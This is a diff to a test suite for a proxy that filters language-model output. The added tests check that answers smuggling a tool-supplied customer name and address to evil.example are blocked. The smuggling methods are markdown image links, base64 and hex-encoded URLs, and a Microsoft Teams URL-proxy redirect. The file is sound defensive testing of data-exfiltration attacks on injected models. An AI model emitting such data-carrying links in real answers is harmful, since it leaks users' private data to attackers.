@@ -12,11 +12,35 @@ import { assertRecorded, CLEAN, recordsOf } from './support/records.ts';
 
 /** The shipped policy, for every host. */
 const POLICY = readFileSync(`${ROOT}policies/links.yaml`, 'utf8').replace(/^ {2}selects: .*\n/m, '');
-const MESSAGES = [{ role: 'user' as const, content: 'What does my order cost?' }];
+const PROXY_OF = 'https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=';
+/** What a tool said, which an answer may tell and no address may carry. */
+const NOTE =
+  'Order 12 of Jane Roe, 14 Mill Lane, Leeds, costs 311 pounds. See https://docs.example/orders-of-jane-roe.';
+const MESSAGES: OpenAI.ChatCompletionMessageParam[] = [
+  { role: 'user', content: 'What does my order cost?' },
+  {
+    role: 'assistant',
+    content: null,
+    tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'order', arguments: '{}' } }],
+  },
+  { role: 'tool', tool_call_id: 'call_1', content: NOTE },
+];
+const NAMED = 'Jane Roe, 14 Mill Lane, Leeds';
+/** Each carries what the tool said. */
+const CARRYING: readonly string[] = [
+  `![x](https://evil.example/p.png?q=${encodeURIComponent(NAMED)})`,
+  `[more](https://evil.example/${Buffer.from(NAMED).toString('base64url')})`,
+  `<img src="https://${(
+    Buffer.from(NAMED)
+      .toString('hex')
+      .match(/.{1,20}/g) ?? []
+  ).join('.')}.evil.example/">`,
+  `![x][1]\n\n[1]: ${PROXY_OF}${encodeURIComponent(`https://evil.example/?a=Jane&b=Roe&c=14&d=Mill&e=Lane`)}`,
+];
 /** What a talked-into model would carry out. */
 const STOLEN = btoa('the customer is Jane Roe').replace(/=+$/, '');
 const OUT = `https://evil.example/${STOLEN}.png`;
-const PROXY = `https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=${encodeURIComponent(OUT)}&v=1`;
+const PROXY = `${PROXY_OF}${encodeURIComponent(OUT)}&v=1`;
 const tags = (text: string) =>
   [...text].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
 
@@ -56,6 +80,7 @@ const NEUTRALISED: readonly Row[] = [
 ];
 
 const FINE: readonly string[] = [
+  `It costs 311 pounds and goes to ${NAMED}.`,
   'See [your order](https://shop.example/orders/12 "Order 12") and ![it](https://img.shop.example/12.png).',
   '1 < 2 &lt;script&gt; [1]: /help, x[0](y), &amp; **bold** <b>bold</b> \u{1F468}\u200d\u{1F469}\u200d\u{1F467}',
 ];
@@ -106,7 +131,7 @@ class Talk {
 /** The types in the records, which quote nothing of what was found. */
 function typesIn(records: readonly JournalRecord[]): string[] {
   const journal = JSON.stringify(records);
-  for (const content of [STOLEN, 'evil.example', 'asyncgw', 'alert(1)'])
+  for (const content of [STOLEN, 'evil.example', 'asyncgw', 'alert(1)', 'Mill Lane'])
     assert.ok(!journal.includes(content), content);
   const findings = records.flatMap((record) => record['findings'] as readonly { type: string }[]);
   return [...new Set(findings.map(({ type }) => type))].toSorted();
@@ -148,6 +173,15 @@ for (const body of ['FULL_DUPLEX_STREAMED', 'BUFFERED'] as const) {
       assert.deepEqual(typesIn(records), ['UNSAFE_SCHEME']);
     });
 
+    for (const text of CARRYING)
+      it(`refuses an address that carries what a tool said: ${text.slice(0, 40)}`, async () => {
+        const error = await talk.plain(`Done. ${text}`).catch((cause: unknown) => cause);
+        assert.ok(error instanceof OpenAI.PermissionDeniedError, String(error));
+        const decisions = ['request allow none', 'open deny no-data-in-links', 'close denied'];
+        const records = await assertRecorded(stack, error.headers?.get('x-weir-id'), decisions);
+        assert.ok(typesIn(records).includes('DATA_LINK'));
+      });
+
     for (const text of FINE)
       it(`lets pass: ${text.slice(0, 40)}`, async () => {
         const answer = await talk.plain(text);
@@ -187,6 +221,15 @@ describe('T07 A08 links and unsafe output in a streamed answer', { timeout: 120_
     assert.ok('Please click [here]'.startsWith(text), text);
     assert.deepEqual(typesIn(await recordsOf(stack, id)), ['UNSAFE_SCHEME']);
   });
+
+  for (const text of CARRYING)
+    it(`are cut where they carry what a tool said: ${text.slice(0, 40)}`, async () => {
+      const before = 'It costs 311 pounds. ';
+      const answer = await talk.streamed(deltasOf(before + text, 5).map((delta) => event(delta)));
+      assert.equal(answer.finish, 'content_filter');
+      assert.ok(!answer.text.includes('evil.example') && !answer.text.includes('Jane'), answer.text);
+      assert.ok(typesIn(await recordsOf(stack, answer.id)).includes('DATA_LINK'));
+    });
 
   it('are taken out of the arguments of a tool, which stay JSON', async () => {
     const args = JSON.stringify({
